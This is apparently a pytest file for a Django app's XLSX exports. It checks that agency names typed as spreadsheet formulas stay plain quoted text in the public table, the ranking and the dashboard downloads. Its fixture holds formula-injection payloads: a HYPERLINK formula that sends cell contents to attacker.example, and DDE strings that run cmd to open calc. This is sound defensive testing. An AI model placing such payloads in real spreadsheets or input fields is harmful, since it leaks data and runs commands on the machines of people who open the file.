"""Formula injection: an agency name typed as a formula stays text in every XLSX download,
the public one included. Each workbook is opened back with openpyxl: the cell holds the
name exactly as typed, with the string type (never `f`) and Excel's quote prefix."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from motcua.core.sheets import sheet_text
from motcua.counters.services import counters_apply
from motcua.directory.models import Agency, Role
from tests.factories import AgencyFactory, staff

pytestmark = pytest.mark.django_db

MARCH = {"from": "2026-03-01", "to": "2026-03-31"}
DAY = date(2026, 3, 10)
HOSTILE = {
    "000.00.11.H98": '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "000.00.12.H98": "+1+cmd|' /C calc'!A0",
    "000.00.13.H98": "-2+3",
    "000.00.14.H98": "@SUM(1+1)*cmd|' /C calc'!A0",
    "000.00.15.H98": "\t=1+1",
}


@pytest.fixture(autouse=True)
def _empty_cache():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def city(db):
    city = AgencyFactory(
        code="000.00.00.H98", name="=1+1 UBND thử nghiệm", level=Agency.Level.PROVINCE
    )
    for code, name in HOSTILE.items():
        agency = AgencyFactory(code=code, name=name, parent=city)
        counters_apply({(agency.pk, DAY, "finished"): 2, (agency.pk, DAY, "finished_on_time"): 1})
    return city


def cells_holding(content: bytes, values: set[str]):
    book = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in values
    ]


def assert_text(cells, expected: set[str]) -> None:
    assert {cell.value for cell in cells} == expected
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_the_public_table_keeps_formula_names_as_text(client, city):
    response = client.get(
        "/chi-so/cong-khai/", {**MARCH, "agency": "000.00.00.H98", "format": "xlsx"}
    )

    assert response.status_code == 200
    cells = cells_holding(response.content, {*HOSTILE.values(), "=1+1 UBND thử nghiệm"})
    assert_text(cells, {*HOSTILE.values(), "=1+1 UBND thử nghiệm"})


def test_the_ranking_keeps_formula_names_as_text(client, city):
    client.force_login(staff(Role.LEADER, city, username="lanhdao_xep_hang"))
    response = client.get("/chi-so/xep-hang/", {**MARCH, "format": "xlsx"})

    assert response.status_code == 200
    cells = cells_holding(response.content, set(HOSTILE.values()))
    assert_text(cells, set(HOSTILE.values()))
    assert len(cells) == 5


def test_the_dashboard_keeps_a_formula_name_as_text(client, city):
    client.force_login(staff(Role.LEADER, city, username="lanhdao_bang_chi_so"))
    response = client.get("/chi-so/", {**MARCH, "agency": "000.00.11.H98", "format": "xlsx"})

    assert response.status_code == 200
    name = HOSTILE["000.00.11.H98"]
    cells = cells_holding(response.content, {name})
    assert_text(cells, {name})
    assert [cell.coordinate for cell in cells] == ["B3"]


def test_sheet_text_keeps_numbers_and_plain_text_as_they_are(client):
    book = load_workbook(io.BytesIO(_one_sheet()))
    sheet = book.active
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].quotePrefix) == (
        "Sở Tư pháp",
        "s",
        False,
    )
    assert (sheet["A2"].value, sheet["A2"].data_type) == (12, "n")
    assert (sheet["A3"].value, sheet["A3"].data_type, sheet["A3"].quotePrefix) == (
        "\r=2*3",
        "s",
        True,
    )


def _one_sheet() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet_text(sheet["A1"], "Sở Tư pháp")
    sheet_text(sheet["A2"], 12)
    sheet_text(sheet["A3"], "\r=2*3")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
